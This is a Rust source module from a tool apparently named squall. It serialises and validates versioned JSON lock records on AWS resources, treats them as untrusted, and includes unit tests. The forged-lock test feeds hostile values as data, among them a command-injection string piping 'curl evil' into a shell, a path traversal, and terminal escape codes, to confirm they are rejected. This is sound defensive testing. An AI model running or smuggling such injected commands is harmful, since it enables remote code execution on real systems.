//! The text of a lock, as it lies in an account: version 3; version 4, which is signed; version 2, which had no lease; and version 1
//! of squall 0.1.0.
//!
//! Invariant: this is text from outside. A caller who may write parameters in the account can write one, so nothing in it
//! is believed that no lock of squall would say: it can make squall put back what a run of its catalogue could have
//! changed on the locked resource, and nothing else (DESIGN rule 18).

use serde::{Deserialize, Serialize};

use super::{LOCK_LIMIT, Lock, LockedChange, LockedSends, NotALock, first};
use crate::account::setting::every_setting;
use crate::account::{AccountIdentity, Location, Mac, Region, Resource, ResourceKind, Setting, Value};
use crate::clock::RENEWED_WITHIN;
use crate::ids::RunId;
use crate::outside::plain;
use crate::plan::Cleanup;
use crate::units::{Span, Time};

/// The version that is written where locks are not signed.
const VERSION: u32 = 3;
/// The same with a signature.
pub(super) const SIGNED: u32 = 4;
/// The version before leases, otherwise the same.
const WITHOUT_LEASE: u32 = 2;
/// Shortest and longest lease that a lock may have.
const LEASES: (Span, Span) = (RENEWED_WITHIN, Span::from_mins(60));
/// No run sends more messages to one queue than this.
const MOST_MESSAGES: u32 = 10_000;
/// Longest title and longest name of a person at a machine.
const LONGEST_TEXT: usize = 200;

/// The version of any lock, whatever else is in it.
#[derive(Deserialize)]
struct Versioned {
    squall: u32,
}

/// Versions 2 to 4: the locked resource is said once, and changes are on nothing else.
#[derive(Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub(super) struct Written {
    pub(super) squall: u32,
    run: RunId,
    title: String,
    by: String,
    made_at: Time,
    latest_end: Time,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    lease_seconds: Option<u32>,
    account: AccountIdentity,
    region: Region,
    kind: ResourceKind,
    name: String,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    changes: Vec<WrittenChange>,
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    sends: Vec<WrittenSends>,
    /// Of the same text without this.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub(super) mac: Option<Mac>,
}

#[derive(Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct WrittenChange {
    setting: WrittenSetting,
    before: WrittenValue,
    after: WrittenValue,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    whole_before: Option<String>,
}

/// The written form of all settings: without the resource, since they are on the locked one.
macro_rules! written_settings {
    ($($(#[$meta:meta])+ $variant:ident { $on:ident $(, $more:ident)* } in $service:ident),+ $(,)?) => {
        #[derive(Serialize, Deserialize)]
        #[serde(tag = "kind", rename_all = "snake_case", deny_unknown_fields)]
        pub(super) enum WrittenSetting {
            $($variant { $($more: String),* }),+
        }

        pub(super) fn written_setting(setting: &Setting) -> WrittenSetting {
            match setting {
                $(Setting::$variant { $on: _ $(, $more)* } => WrittenSetting::$variant { $($more: $more.clone()),* }),+
            }
        }

        pub(super) fn setting_on(resource: &Resource, setting: WrittenSetting) -> Setting {
            match setting {
                $(WrittenSetting::$variant { $($more),* } => Setting::$variant { $on: resource.clone() $(, $more)* }),+
            }
        }
    };
}
every_setting!(written_settings);

#[derive(Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case", deny_unknown_fields)]
enum WrittenValue {
    Unset,
    Number { number: u64 },
    Text { text: String },
}

#[derive(Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct WrittenSends {
    first: u32,
    count: u32,
    /// A queue in the same account and region; none: the messages may stay.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    sweep: Option<WrittenSweep>,
}

#[derive(Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct WrittenSweep {
    dead_letter: String,
    arrives_within_seconds: f64,
    foreign_limit: u32,
}

/// A lock on `resource` as the account holds it.
pub fn write(lock: &Lock, resource: &Resource) -> String {
    let changes = lock.changes.iter().filter(|change| !change.setting.is_lock()).map(|change| WrittenChange {
        setting: written_setting(&change.setting),
        before: written_value(&change.before),
        after: written_value(&change.after),
        whole_before: change.whole_before.clone(),
    });
    let sweep = |cleanup: &Cleanup| match cleanup {
        Cleanup::Sweep { dead_letter, arrives_within, foreign_limit } => Some(WrittenSweep {
            dead_letter: dead_letter.name.clone(),
            arrives_within_seconds: arrives_within.secs_f64(),
            foreign_limit: *foreign_limit,
        }),
        Cleanup::LeaveInQueue => None,
    };
    let written = Written {
        squall: if lock.lease.is_some() { VERSION } else { WITHOUT_LEASE },
        run: lock.run.clone(),
        title: lock.title.clone(),
        by: lock.by.clone(),
        made_at: lock.made_at,
        latest_end: lock.latest_end,
        lease_seconds: lock.lease.map(|lease| u32::try_from(lease.millis() / 1000).unwrap_or(u32::MAX)),
        account: resource.location.account.clone(),
        region: resource.location.region.clone(),
        kind: resource.kind,
        name: resource.name.clone(),
        changes: changes.collect(),
        sends: lock
            .sends
            .iter()
            .map(|sends| WrittenSends { first: sends.first, count: sends.count, sweep: sweep(&sends.cleanup) })
            .collect(),
        mac: None,
    };
    serde_json::to_string(&written).unwrap_or_default()
}

/// Reads the text that lies on `resource`.
///
/// # Errors
/// It is of a newer version, of another resource or account, or says what no lock of squall would say.
pub fn read(resource: &Resource, text: &str) -> Result<Lock, NotALock> {
    let wrong = |why: String| NotALock { resource: Box::new(resource.clone()), why };
    if text.len() > 2 * LOCK_LIMIT {
        return Err(wrong(format!("it has {} bytes; a lock has at most {LOCK_LIMIT}", text.len())));
    }
    let version: Versioned = serde_json::from_str(text).or_else(|_| version_of(text)).map_err(&wrong)?;
    let lock = match version.squall {
        1 => first::read(resource, text),
        WITHOUT_LEASE | VERSION | SIGNED => second(resource, text),
        newer => Err(format!(
            "it has format {newer}; this version of squall reads 1 to {SIGNED}; use the version that wrote it"
        )),
    };
    let lock = lock.map_err(&wrong)?;
    believable(&lock).map_err(wrong)?;
    Ok(Lock { title: plain(&lock.title), by: plain(&lock.by), ..lock })
}

/// The version, where there are other keys beside it.
fn version_of(text: &str) -> Result<Versioned, String> {
    let json: serde_json::Value = serde_json::from_str(text).map_err(|error| error.to_string())?;
    let version = json.get("squall").and_then(serde_json::Value::as_u64);
    let version = version.and_then(|version| u32::try_from(version).ok());
    version.map(|squall| Versioned { squall }).ok_or_else(|| "it does not say its version".into())
}

fn second(resource: &Resource, text: &str) -> Result<Lock, String> {
    let written: Written = serde_json::from_str(text).map_err(|error| error.to_string())?;
    if (written.kind, &written.name) != (resource.kind, &resource.name) {
        return Err(format!("it is about {} {}", written.kind.word(), plain(&written.name)));
    }
    let location = Location { account: written.account, region: written.region };
    if location != resource.location {
        return Err(format!(
            "it is about account {} ({location}), but is stored in {}",
            location.account, resource.location
        ));
    }
    let lease = written.lease_seconds.map(|seconds| Span::from_secs(i64::from(seconds)));
    if written.mac.is_some() != (written.squall == SIGNED) {
        return Err("it has a signature that squall does not make".into());
    }
    if lease.is_some() != (written.squall != WITHOUT_LEASE)
        || lease.is_some_and(|lease| lease < LEASES.0 || LEASES.1 < lease)
    {
        return Err("its lease is not a valid one".into());
    }
    let sends = written.sends.into_iter().map(|sends| {
        let cleanup = match sends.sweep {
            None => Cleanup::LeaveInQueue,
            Some(sweep) => Cleanup::Sweep {
                dead_letter: resource.beside(ResourceKind::Queue, sweep.dead_letter),
                arrives_within: Span::from_secs_f64(sweep.arrives_within_seconds),
                foreign_limit: sweep.foreign_limit,
            },
        };
        LockedSends { first: sends.first, count: sends.count, cleanup }
    });
    let change = |change: WrittenChange| LockedChange {
        setting: setting_on(resource, change.setting),
        before: value(change.before),
        after: value(change.after),
        whole_before: change.whole_before,
    };
    Ok(Lock {
        run: written.run,
        title: written.title,
        by: written.by,
        made_at: written.made_at,
        latest_end: written.latest_end,
        lease,
        sends: sends.collect(),
        changes: written.changes.into_iter().map(change).collect(),
    })
}

/// Whether a run of squall could have left this.
fn believable(lock: &Lock) -> Result<(), String> {
    lock.run.0.parse::<RunId>().map_err(|_| "its run id is not a valid one".to_owned())?;
    if [&lock.title, &lock.by].iter().any(|text| text.chars().count() > LONGEST_TEXT) {
        return Err(format!("its title or its author has more than {LONGEST_TEXT} characters"));
    }
    if lock.latest_end < lock.made_at {
        return Err("it expires before it was created".into());
    }
    for sends in &lock.sends {
        if sends.first == 0 || sends.count > MOST_MESSAGES || sends.first.checked_add(sends.count).is_none() {
            return Err(format!("it counts messages {} to {} more", sends.first, sends.count));
        }
    }
    lock.changes.iter().try_for_each(|change| believable_change(&lock.run, change))
}

fn believable_change(run: &RunId, change: &LockedChange) -> Result<(), String> {
    let setting = &change.setting;
    if setting.is_lock() {
        return Err("it would change a lock".into());
    }
    setting
        .could_be_changed_by(run, &change.before, &change.after)
        .map_err(|why| format!("{}: {why}", plain(&setting.describe())))
}

fn written_value(value: &Value) -> WrittenValue {
    match value {
        Value::Unset => WrittenValue::Unset,
        Value::Number(number) => WrittenValue::Number { number: *number },
        Value::Text(text) => WrittenValue::Text { text: text.clone() },
    }
}

fn value(value: WrittenValue) -> Value {
    match value {
        WrittenValue::Unset => Value::Unset,
        WrittenValue::Number { number } => Value::Number(number),
        WrittenValue::Text { text } => Value::Text(text),
    }
}

#[cfg(test)]
mod tests {
    use serde_json::{Value as Json, json};

    use super::*;
    use crate::account::kind::lambda::WRAPPER_PREFIX;

    fn at(region: &str) -> Location {
        Location::of_aws("111122223333".parse().unwrap(), region.parse().unwrap(), None)
    }

    fn function() -> Resource {
        Resource::new(&at("eu-west-1"), ResourceKind::Function, "pay")
    }

    fn lock(resource: &Resource, setting: Setting, before: Value, after: Value) -> Lock {
        let _ = resource;
        Lock {
            run: RunId("run-1".into()),
            title: "no concurrency left".into(),
            by: "ana@laptop".into(),
            made_at: "2026-03-02T09:00:00Z".parse().unwrap(),
            latest_end: "2026-03-02T10:00:00Z".parse().unwrap(),
            lease: Some(Span::from_mins(3)),
            changes: vec![LockedChange { setting, before, after, whole_before: None }],
            sends: Vec::new(),
        }
    }

    fn throttled() -> Lock {
        let setting = Setting::ReservedConcurrency { function: function() };
        lock(&function(), setting, Value::Unset, Value::Number(0))
    }

    fn role() -> Resource {
        Resource::new(&at("eu-west-1"), ResourceKind::Role, "worker")
    }

    fn policy(name: &str, before: Value) -> Lock {
        let setting = Setting::RolePolicy { role: role(), policy: name.into() };
        lock(&role(), setting, before, Value::Text("{}".into()))
    }

    fn variables(prefix: &str, before: &str) -> Lock {
        let setting = Setting::Variables { function: function(), prefix: prefix.into() };
        lock(&function(), setting, Value::Text(before.into()), Value::Unset)
    }

    #[test]
    fn marks_are_read_back() {
        let ours = format!("{}X", WRAPPER_PREFIX);
        for (resource, lock) in [
            (function(), throttled()),
            (role(), policy("squall-run-1-1", Value::Unset)),
            (function(), variables(WRAPPER_PREFIX, &json!({ ours: "1" }).to_string())),
        ] {
            assert_eq!(read(&resource, &write(&lock, &resource)), Ok(lock));
        }
    }

    #[test]
    fn a_mark_of_another_account_region_or_resource_is_refused() {
        let text = write(&throttled(), &function());
        let other = Location::of_aws("444455556666".parse().unwrap(), "eu-west-1".parse().unwrap(), None);
        let emulator = Some("http://localhost:4566");
        let emulated = Location::of_aws("111122223333".parse().unwrap(), "eu-west-1".parse().unwrap(), emulator);
        for location in [other, at("eu-central-1"), emulated] {
            let resource = Resource::new(&location, ResourceKind::Function, "pay");
            let error = read(&resource, &text).unwrap_err();
            assert!(error.to_string().contains("111122223333"), "{error}");
        }
        let namesake = Resource::new(&at("eu-west-1"), ResourceKind::Function, "other");
        assert!(read(&namesake, &text).unwrap_err().to_string().contains("function pay"));
    }

    /// What a caller may write into a parameter is no reason to do more than to roll back what a run could have changed.
    #[test]
    fn a_forged_mark_is_refused() {
        let forged = |change: &dyn Fn(&mut Json), lock: &Lock, resource: &Resource| {
            let mut json: Json = serde_json::from_str(&write(lock, resource)).unwrap();
            change(&mut json);
            read(resource, &json.to_string()).map_err(|error| error.to_string())
        };
        let pay = function();
        for run in ["../../../pwned", "x;curl evil|sh", "\u{1b}[2J", ""] {
            assert!(forged(&|json| json["run"] = json!(run), &throttled(), &pay).is_err(), "{run}");
        }
        assert!(forged(&|json| json["squall"] = json!(5), &throttled(), &pay).unwrap_err().contains("format 5"));
        assert!(forged(&|json| json["squall"] = json!(4), &throttled(), &pay).unwrap_err().contains("signature"));
        assert!(forged(&|json| json["squall"] = json!(2), &throttled(), &pay).is_err(), "no lease in version 2");
        for lease in [json!(null), json!(1), json!(u32::MAX)] {
            assert!(forged(&|json| json["lease_seconds"] = lease.clone(), &throttled(), &pay).is_err(), "{lease}");
        }
        assert!(forged(&|json| json["more"] = json!(1), &throttled(), &pay).is_err());
        assert!(forged(&|json| json["title"] = json!("x".repeat(500)), &throttled(), &pay).is_err());
        assert!(forged(&|json| json["latest_end"] = json!("2020-01-01T00:00:00Z"), &throttled(), &pay).is_err());
        let text = |json: &mut Json| json["changes"][0]["before"] = json!({ "kind": "text", "text": "x" });
        assert!(forged(&text, &throttled(), &pay).is_err());
        let sends = |json: &mut Json| json["sends"] = json!([{ "first": 4_294_967_295_u32, "count": 9 }]);
        assert!(forged(&sends, &throttled(), &pay).is_err());
        let printed = forged(&|json| json["by"] = json!("a\u{1b}[2J\u{202e}b"), &throttled(), &pay).unwrap();
        assert_eq!(printed.by, "a?[2J?b");
        // An administrator for everybody, another run's policy, a policy that was there before.
        for (name, before) in
            [("admin", Value::Unset), ("squall-run-2-1", Value::Unset), ("squall-run-1-1", Value::Text("{}".into()))]
        {
            let lock = policy(name, before);
            assert!(read(&role(), &write(&lock, &role())).is_err(), "{name}");
        }
        for (prefix, before) in
            [("AWS_", "{}"), ("", "{}"), (WRAPPER_PREFIX, r#"{"PATH":"/tmp"}"#), (WRAPPER_PREFIX, "[]")]
        {
            let lock = variables(prefix, before);
            assert!(read(&function(), &write(&lock, &function())).is_err(), "{prefix} {before}");
        }
    }

    /// As it was written before leases: its owner gives no sign of life.
    #[test]
    fn a_mark_of_the_second_version_has_no_lease() {
        let text = r#"{"squall":2,"run":"run-1","title":"t","by":"ana@laptop","made_at":"2026-03-02T09:00:00Z","latest_end":"2026-03-02T10:00:00Z","account":"aws:111122223333","region":"eu-west-1","kind":"function","name":"pay","changes":[{"setting":{"kind":"reserved_concurrency"},"before":{"kind":"unset"},"after":{"kind":"number","number":0}}]}"#;
        let lock = read(&function(), text).unwrap();
        assert_eq!((lock.lease, lock.changes.len()), (None, 1));
        assert_eq!(read(&function(), &write(&lock, &function())), Ok(lock));
    }

    /// As squall 0.1.0 wrote it: the nickname says nothing, the account that it lies in counts.
    #[test]
    fn a_mark_of_the_first_version_is_about_the_account_that_it_lies_in() {
        let text = |name: &str| {
            json!({
                "squall": 1, "run": "run-1", "title": "t", "by": "ana@laptop", "made_at": "2026-03-02T09:00:00.000Z",
                "latest_end": "2026-03-02T10:00:00.000Z",
                "changes": [{
                    "setting": { "reserved_concurrency": { "function": { "account": "telemetry", "kind": "function", "name": name } } },
                    "before": { "number": 5 }, "after": { "number": 0 },
                }],
            })
            .to_string()
        };
        let lock = read(&function(), &text("pay")).unwrap();
        assert_eq!(lock.changes[0].setting, Setting::ReservedConcurrency { function: function() });
        assert_eq!(lock.changes[0].before, Value::Number(5));
        let error = read(&function(), &text("other")).unwrap_err();
        assert!(error.to_string().contains("would change function other"), "{error}");
    }
}
